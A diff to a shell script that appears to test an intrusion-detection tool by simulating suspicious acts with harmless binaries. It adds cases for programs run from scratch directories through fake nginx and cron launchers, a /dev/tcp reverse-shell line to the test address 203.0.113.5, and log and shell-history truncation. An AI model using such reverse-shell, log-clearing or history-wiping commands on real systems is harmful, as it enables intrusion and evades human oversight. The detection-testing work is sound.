@@ -327,11 +327,15 @@ printf ':\n' >"/dev/shm/$K.sh" && sh "/dev/shm/$K.sh" && rm -f "/dev/shm/$K.sh"
 act shm-relative "Program run from shared memory"
 cp /bin/true "/dev/shm/$K.r" && (cd /dev/shm && "./$K.r") && rm -f "/dev/shm/$K.r"
 
-act fresh-cp "Freshly written program run from a scratch directory"
-cp /bin/true "$W/$K.fresh" && "$W/$K.fresh"
+act fresh-web "Freshly written program run from a scratch directory"
+"$B/nginx" -c "cp /bin/true $W/$K.fresh && $W/$K.fresh; true"
 
-act fresh-python "Freshly written program run from a scratch directory"
-$PY -c "import os,subprocess,sys; p='/var/tmp/'+sys.argv[1]; open(p,'wb').write(open('/bin/true','rb').read()); os.chmod(p, 0o755); subprocess.run([p]); os.unlink(p)" "$K"
+act fresh-cron "Freshly written program run from a scratch directory"
+"$B/cron" -c "$PY -c \"import os,subprocess,sys; p='/var/tmp/'+sys.argv[1]; open(p,'wb').write(open('/bin/true','rb').read()); os.chmod(p, 0o755); subprocess.run([p]); os.unlink(p)\" $K; true"
+
+act fresh-revshell "Freshly written program run from a scratch directory"
+in_netns sh -c "$NETNS_SERVE" serve 203.0.113.5 $((PORT + 6)) \
+	bash -c "cp /bin/true $W/$K.rs && exec 3<>/dev/tcp/203.0.113.5/$((PORT + 6)) && exec 0<&3; $W/$K.rs; true"
 
 act drift-host "Program run from a container's upper layer"
 unshare -m sh -c "mount -t overlay overlay -o lowerdir=$W/ovl/lower,upperdir=$W/ovl/upper,workdir=$W/ovl/work $W/ovl/merged && cp /bin/true $W/ovl/merged/$K && $W/ovl/merged/$K"
@@ -449,11 +453,17 @@ echo x >"/var/log/$K.log" && cp /dev/null "/var/log/$K.log"
 act log-rename "Log file cleared or removed"
 echo x >"/var/log/$K.log" && mv "/var/log/$K.log" "/var/log/$K.old"
 
+act log-truncate-tool "Log file cleared or removed"
+echo x >"/var/log/$K.log" && truncate -s 0 "/var/log/$K.log"
+
 act log-rm "Log file cleared or removed"
 echo x >"/var/log/$K.log" && rm -f "/var/log/$K.log" "/var/log/"*"$K"*
 
 act history-truncate "Shell history erased or disabled"
 echo ls >"$W/home/.bash_history" && bash -c ': >"$1/.bash_history"; : "$2"' bash "$W/home" "$K"
+
+act history-truncate-tool "Shell history erased or disabled"
+echo ls >"$W/home/.python_history" && truncate -s 0 "$W/home/.python_history" "$W/$K"
 
 act history-rm "Shell history erased or disabled"
 echo ls >"$W/home/.zsh_history" && rm -f "$W/home/.zsh_history" "$W/$K"
